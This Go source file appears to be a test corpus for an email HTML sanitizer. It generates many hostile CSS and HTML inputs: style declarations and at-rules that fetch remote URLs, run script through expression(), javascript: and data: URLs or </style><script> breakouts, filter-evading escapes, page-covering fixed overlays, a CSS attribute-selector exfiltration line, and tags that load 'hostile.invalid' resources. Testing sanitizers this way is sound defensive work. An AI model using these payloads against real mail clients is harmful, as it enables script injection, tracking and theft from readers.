package hostilemail

// styles that load, run, or cover the page that shows them. Each goes as an element and as an attribute where it can.
func styles() []string {
	declarations := lines(`
background:url({url})
background:url("{url}")
background:url('{url}')
background: URL( {url} )
background:u\rl({url})
background:\75\72\6c({url})
background:\000075rl({url})
background:url(\68ttps://hostile.invalid/loaded)
background:url("\68ttps://hostile.invalid/loaded")
background:url(//hostile.invalid/loaded)
background:url(\\\\hostile.invalid/loaded)
background:url("http\
s://hostile.invalid/loaded")
background:/**/url({url})
background:url({url}
background:url("{url}
background:red url({url}) no-repeat
background-image:url({url}),url({url})
background-image:image-set("{url}" 1x)
background-image:-webkit-image-set(url({url}) 1x)
background-image:image("{url}")
background-image:cross-fade(url({url}),url({url}))
background-image:-webkit-cross-fade(url({url}),url({url}),50%)
background-image:element(#x)
background-image:paint(x)
background-image:src("{url}")
--x:url({url});background:var(--x)
--x:"{url}";background:image-set(var(--x) 1x)
background:var(--y,url({url}))
list-style:url({url})
list-style-image:url({url})
cursor:url({url}),auto
content:url({url})
border-image:url({url}) 30
border-image-source:url({url})
mask:url({url})
-webkit-mask-image:url({url})
mask-image:url({url})
-webkit-mask-box-image:url({url})
clip-path:url({url}#x)
filter:url({url}#x)
backdrop-filter:url({url}#x)
shape-outside:url({url})
offset-path:url({url}#x)
fill:url({url}#x)
marker:url({url}#x)
-webkit-box-reflect:below 0 url({url})
behavior:url({url})
behavior:url(#default#time2)
-moz-binding:url({url}#x)
-ms-behavior:url({url})
width:expression({js})
width:e/**/xpression({js})
width:exp\72 ession({js})
xss:\65xpression({js})
width:calc(expression({js}))
background:url(javascript:{js})
background:url("javascript:{js}")
background:url(data:text/html,<script>{js}</script>)
background:url("data:image/svg+xml,<svg onload={js}>")
filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{url}')
filter:progid:DXImageTransform.Microsoft.ICMFilter(colorProfile='{url}')
position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647
position:FIXED
position:\66ixed
position:/**/fixed
position:sticky;top:0
position:-webkit-sticky
position:fi` + "\x14" + `xed
position:st` + "\x01" + `icky
position:fi<xed
background:u` + "\x7f" + `rl({url})
width:expr` + "\x02" + `ession({js})
--p:fixed;position:var(--p)
position:var(--none,fixed)
x:"</style><img src=x onerror={js}>"
x:</style><script>{js}</script>
color:red}</style><script>{js}</script><style>{
color:red"><script>{js}</script>
color:"\22\3e\3cscript\3e{js}\3c/script\3e"
font-family:"\3c/style\3e\3cscript\3e{js}"
font:12px "x;background:url({url})
x:(;background:url({url})
x:[;background:url({url})
x:{;background:url({url})
x:);background:url({url})
x:};background:url({url})
x:\;background:url({url})
x:/*;background:url({url})
x:"\
";background:url({url})
`)
	sheets := lines(`
@import url({url});
@import "{url}";
@import '{url}' screen;
@\69mport "{url}";
@IMPORT url({url});
@import/**/"{url}";
@import url(javascript:{js});
@charset "utf-7"; x{}
@namespace url({url});
@font-face{font-family:x;src:url({url})} body{font-family:x}
@font-face{font-family:x;src:local(x),url({url}) format("woff2");unicode-range:U+0-FF} *{font-family:x}
@font-feature-values x{@styleset{x:1}}
@media all{@import "{url}";a{background:url({url})}}
@media all{@media all{@media all{@media all{@media all{@media all{a{background:url({url})}}}}}}}
@supports (background:url({url})){body{color:red}}
@supports (x:(){}body{background:url({url})}
@document url({url}){body{color:red}}
@-moz-document url-prefix(){body{background:url({url})}}
@page{background:url({url})}
@property --x{syntax:"<url>";inherits:false;initial-value:url({url})}
@counter-style x{system:cyclic;symbols:url({url});suffix:" "}
@keyframes x{from{background:url({url})}to{background:url({url})}} body{animation:x 1s}
@layer x{body{background:url({url})}}
@container (width>0){body{background:url({url})}}
@scope (body){p{background:url({url})}}
@starting-style{body{background:url({url})}}
@view-transition{navigation:auto}
@unknown{body{background:url({url})}}
input[value^=a]{background:url({url}?a)}
a[href="\22]{background:url({url})}"]{x:y}
body{background:url({url})
body{color:red;p{background:url({url})}}
body{color:red;&:hover{background:url({url})}}
{}body{background:url({url})}
}body{background:url({url})}
;body{background:url({url})}
<!--body{background:url({url})}-->
body::before{content:url({url})}
p:hover{background:url({url})}
a:visited{background:url({url})}
:root{--x:url({url})} body{background:var(--x)}
x({body{background:url({url})}
x[{body{background:url({url})}
"x{body{background:url({url})}
"x
/*x{body{background:url({url})}
/**/body{background:url({url})}
\{body{background:url({url})}
html{position:fixed} body{position:fixed;inset:0}
body{background:url({url})}</style><style>p{background:url({url})}
`)
	var list []string
	for _, d := range declarations {
		list = append(list, "<style>p{"+d+"}</style><p>x</p>", `<p style='`+attribute(d)+`'>x</p>`)
	}
	for _, s := range sheets {
		list = append(list, "<style>"+s+"</style><p>x</p>")
	}
	list = append(list, `<style type=text/less>p{background:url({url})}</style>`, `<style media=all>@import "{url}"</style>`, `<style><p></style><img src=x onerror={js}></p>`,
		`<svg><style>p{background:url({url})}</style></svg><p>x`, "<style>p{background:url({url})}", `<body style="background:url({url})">x`, `<html style="background:url({url})"><body>x`)
	return named("style", list...)
}

// attribute makes a declaration stand within single quotes.
func attribute(s string) string {
	out := make([]byte, 0, len(s))
	for i := range len(s) {
		if s[i] == '\'' {
			out = append(out, "&#39;"...)
		} else {
			out = append(out, s[i])
		}
	}
	return string(out)
}

// loads ask somebody without a script.
func loads() []string {
	return named("load", lines(`
<img src={url}>
<img src=//hostile.invalid/loaded>
<img src=\\hostile.invalid\loaded>
<img src="/\hostile.invalid/loaded">
<img src="\/hostile.invalid/loaded">
<img src="ht	tps://hostile.invalid/loaded">
<img src=" {url}">
<img src=HTTPS://hostile.invalid/loaded>
<img src=https:hostile.invalid/loaded>
<img src=https:/hostile.invalid/loaded>
<img src=https:\\hostile.invalid/loaded>
<img src=ftp://hostile.invalid/loaded>
<img src=http://user:pass@hostile.invalid/loaded>
<img srcset="{url} 1x, {url} 2x">
<img srcset="cid:x 1x, {url} 2x" src=cid:x>
<img sizes=100vw srcset="{url} 100w" loading=eager>
<img lowsrc={url}>
<img dynsrc={url}>
<img src=cid:x longdesc={url}>
<image src={url}>
<picture><source srcset={url}><img src=cid:x></picture>
<picture><source srcset="{url} 1x" media="(min-width:1px)"><img src=cid:x></picture>
<video src={url}></video>
<video poster={url}></video>
<video><source src={url}><track src={url} default></video>
<audio src={url}></audio>
<audio><source src={url}></audio>
<input type=image src={url}>
<object data={url}></object>
<embed src={url}>
<iframe src={url}></iframe>
<body background={url}>
<table background={url}><tr><td>x</table>
<table><tr background={url}><td background={url}>x</table>
<link rel=stylesheet href={url}>
<link rel="alternate stylesheet" href={url}>
<link rel=icon href={url}>
<link rel=preload as=image href={url}>
<link rel=preload as=image imagesrcset="{url} 1x">
<link rel=modulepreload href={url}>
<link rel=prefetch href={url}>
<link rel=dns-prefetch href=//hostile.invalid>
<link rel=preconnect href=https://hostile.invalid>
<link rel=prerender href={url}>
<link rel=expect href={url}>
<meta http-equiv=refresh content="0;url={url}">
<meta http-equiv=Link content="<{url}>;rel=prefetch">
<meta http-equiv=x-dns-prefetch-control content=on><a href={url}>x</a>
<script src={url}></script>
<svg><image xlink:href={url} /></svg>
<svg><image href={url} /></svg>
<svg><use xlink:href="{url}#x"/></svg>
<svg><filter id=f><feImage href={url} /></filter></svg>
<svg><pattern id=p href="{url}#x"/></svg>
<svg><rect fill="url({url}#x)" /></svg>
<svg style="background:url({url})"></svg>
<math><mglyph src={url}></math>
<html manifest={url}>
<a ping={url} href=#>x</a>
<a href={url} attributionsrc={url}>x</a>
<img src=cid:x attributionsrc={url}>
<v:image src={url} />
<v:fill src={url} />
<xml:namespace prefix=v /><v:vmlframe src={url}></v:vmlframe>
<bgsound src={url}>
<frameset><frame src={url}></frameset>
<portal src={url}></portal>
<applet archive={url}></applet>
<object codebase={url} classid=x></object>
<img src="cid:x?{url}">
<img src="cid:../../x">
<img src="cid:%2e%2e%2f%22%3e%3cscript%3e">
<font face="x" style="background:url({url})">x</font>
<hr style="background:url({url})">
`)...)
}
